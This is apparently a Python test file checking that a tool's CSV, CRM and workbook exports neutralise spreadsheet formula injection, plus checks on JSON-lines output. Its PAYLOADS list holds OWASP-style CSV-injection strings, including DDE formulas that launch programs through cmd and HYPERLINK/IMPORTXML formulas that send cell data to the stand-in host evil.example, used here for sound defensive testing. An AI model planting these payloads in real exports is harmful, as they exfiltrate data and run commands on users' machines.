from __future__ import annotations

import csv
import json
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from batchrun.workbook.form import Crm, Form
from batchrun.workbook.text import escaped, unescaped, write_crm, write_csv, write_json_lines
from tests.workbook.batches import batch, batch_of, company, row, sheet

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from batchrun.model import JSON

PAYLOADS = (
    # owasp.org/www-community/attacks/CSV_Injection and the payloads it refers to
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Error: click")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1+1",  # noqa: RUF001
    "－1+1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    "x;=1+1",
    'x";=cmd|calc!A0',
    "x\t@SUM(1)",
    "x\n=1+1",
    "x\r\n+cmd|calc!A0",
    'DDE ("cmd";"/C calc";"x")\n=DDE(1)',
    "=\N{ZERO WIDTH SPACE}1",
    "-",
    "--",
    "=",
)
"""What a spreadsheet would run, or take for the beginning of a cell and then run."""


@given(st.one_of(st.sampled_from(PAYLOADS), st.text("'=+-1x; \t\n")))
@example("-5 abc")
@example("'=x")
@example("O'Neil - x")
@example("+49 221 4")
def test_a_guarded_cell_is_read_back_as_it_was(text: str) -> None:
    assert escaped(str(unescaped(escaped(text)))) == escaped(text)
    if "'" not in text:
        assert unescaped(escaped(text)) == text


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_spreadsheet_sees_a_formula_in_a_csv(tmp_path: Path, delimiter: str) -> None:
    """Whatever the delimiter of the reader's country is."""
    path = tmp_path / "out.csv"
    rows = [row(at, {one: one}, cells=("id", one)) for at, one in enumerate(PAYLOADS)]
    write_csv(batch(rows, ("id", PAYLOADS[0])), path)

    for field in fields_as_excel_splits(path.read_text(encoding="utf-8-sig"), delimiter):
        assert not field.lstrip(' \t\r\n"').startswith(("=", "@", "＝", "＠")), field  # noqa: RUF001
        if field.startswith(("+", "-", "＋", "－")):  # noqa: RUF001
            assert field.replace("-", "").replace(":", "").replace(" ", "").isdigit(), field


def test_no_spreadsheet_sees_a_formula_in_a_workbook(written: Callable[..., Path]) -> None:
    """In the list's cells and heads, in results, their keys and rich text; `written` looks."""
    cells = (company(0), *PAYLOADS)
    result: dict[str, JSON] = {payload: [{payload: payload}] for payload in PAYLOADS}
    result["rich"] = "\n".join(f"- **{payload}**" for payload in PAYLOADS)

    path = written(batch([row(0, result, cells=cells)], ("Company ID", *PAYLOADS)))

    head, found = sheet(path)
    assert head[1 : len(cells)] == list(PAYLOADS)
    assert found[1 : len(cells)] == list(PAYLOADS)


@pytest.mark.parametrize(
    "text",
    ["-5", "+49", "-1.5e-7", "1;2", "a - b", "Two sites:\n- head office\n- plant", "a=b", "1\n-2"],
)
def test_plain_text_and_numbers_are_left_alone(text: str) -> None:
    assert escaped(text) == text


UNSEEN = (
    "\x00", "\x01", "\x0b", "\x1b", "\t", "\r", " ", "\xa0", "\xad", "\u034f", "\u061c", "\u115f",
    "\u180e", "\u200b", "\u200d",
    "\u200e", "\u202e", "\u2060", "\u2066", "\u2800", "\u3000", "\u3164",
    "\ufe0f", "\ufeff", "\uffa0", "\ufff9", "\U000e0041", "\ud800", "\x00\ufeff \u202e", '"', "'",
)  # fmt: skip


@pytest.mark.parametrize("before", ["", "a;", "a\t", "a\n", "a\r\n"])
def test_what_can_not_be_seen_hides_no_formula(before: str) -> None:
    formulas = [
        (f"{before}{unseen}", f"{sign}cmd|'/c calc'!A1")
        for unseen in UNSEEN
        for sign in "=+-@＝＋－＠﹦﹢﹣﹫"  # noqa: RUF001
    ]
    assert [
        unseen + formula
        for unseen, formula in formulas
        if f"'{formula[0]}" not in escaped(unseen + formula)[len(unseen) :]
    ] == []


@pytest.mark.parametrize(
    "text", ["\n" * 100_000 + "x", "- " * 50_000, "\0" * 99_999 + "=", ";=" * 50_000]
)
def test_a_long_text_is_escaped_in_one_pass(text: str) -> None:
    assert len(escaped(text)) >= len(text)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("\x00\ufeff =1+1", "'\x00\ufeff =1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-cmd|'/c calc'!A1", "'-cmd|'/c calc'!A1"),
        ("**=SUM(1)**", "'=SUM(1)"),
        ("\u200b+1", "'\u200b+1"),
        ("=1", "=1"),
        ("- a list", "- a list"),
        ("+49 30 1234", "+49 30 1234"),
        ("@acme", "@acme"),
        ("-5", "-5"),
    ],
)
def test_a_file_for_a_crm_holds_no_formula_that_calls_and_all_else_as_it_is(
    tmp_path: Path, value: str, written: str
) -> None:
    results = batch([row(0, {"a": value}, cells=("1234567",))], ("Record ID",))
    write_crm(results, tmp_path / "crm.csv", Form(crm=Crm.HUBSPOT))
    with (tmp_path / "crm.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file))[1][1] == written


@given(st.text())
def test_escaping_only_adds_apostrophes(text: str) -> None:
    assert escaped(text).replace("'", "") == text.replace("'", "")


def test_a_csv_is_for_excel_unless_it_is_for_machines(tmp_path: Path) -> None:
    results = batch([row(0, {"a": "=1", "b": True, "c": None}, cells=(company(0), "Ü"))])

    write_csv(results, tmp_path / "people.csv")
    write_csv(results, tmp_path / "machines.csv", Form(csv_plain=True))

    assert (tmp_path / "people.csv").read_bytes().startswith(b"\xef\xbb\xbfCompany ID,")
    assert (tmp_path / "machines.csv").read_bytes().startswith(b"Company ID,")
    people, machines = (
        next(csv.DictReader((tmp_path / name).read_text(encoding="utf-8-sig").splitlines()))
        for name in ("people.csv", "machines.csv")
    )
    assert (people["a"], machines["a"]) == ("'=1", "=1")
    assert (people["b"], people["c"], people["triggered (UTC)"]) == (
        "TRUE", "", "2026-11-24 09:00:00",
    )  # fmt: skip


def test_json_lines_hold_the_result_as_the_service_sent_it(tmp_path: Path) -> None:
    result: dict[str, JSON] = {
        "z": 1,
        "a": {"deep": [{"x": [[1]]}]},
        "long": 12345678901234567890,
        "t": "\x00",
    }
    path = tmp_path / "out.jsonl"

    write_json_lines(batch_of(result, None), path)

    first, second = map(json.loads, path.read_text(encoding="utf-8").splitlines())
    assert list(first["result"]) == list(result)
    assert first["result"] == result
    assert (first["line"], first["input"]["Account Name"]) == (2, "Firm 0")
    assert second["result"] is None


def test_json_lines_are_valid_whatever_is_in_them(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    write_json_lines(batch_of({"half": "\ud83d"}, {"n": float("nan"), "i": [float("inf")]}), path)

    def refuse(word: str) -> None:
        raise AssertionError(word)

    first, second = (
        json.loads(line, parse_constant=refuse)
        for line in path.read_text(encoding="utf-8").splitlines()
    )
    assert first["result"] == {"half": "\ud83d"}
    assert second["result"] == {"n": "nan", "i": ["inf"]}


def test_headers_that_repeat_are_told_apart_in_json_lines(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    header = ("Name", "Name", "", "Name (2)")
    write_json_lines(batch([row(0, cells=("a", "b", "c", "d"))], header), path)

    found = json.loads(path.read_text(encoding="utf-8"))["input"]
    assert list(found.values()) == ["a", "b", "c", "d"]


def fields_as_excel_splits(text: str, delimiter: str) -> list[str]:
    """The fields a spreadsheet sees: a quote counts only at the start of a field."""
    fields, field, quoted = [], "", False
    position = 0
    while position < len(text):
        sign = text[position]
        if quoted:
            if text[position : position + 2] == '""':
                field += '"'
                position += 1
            elif sign == '"':
                quoted = False
            else:
                field += sign
        elif sign == '"' and not field:
            quoted = True
        elif sign == delimiter or sign in "\r\n":
            fields.append(field)
            field = ""
        else:
            field += sign
        position += 1
    return [*fields, field]
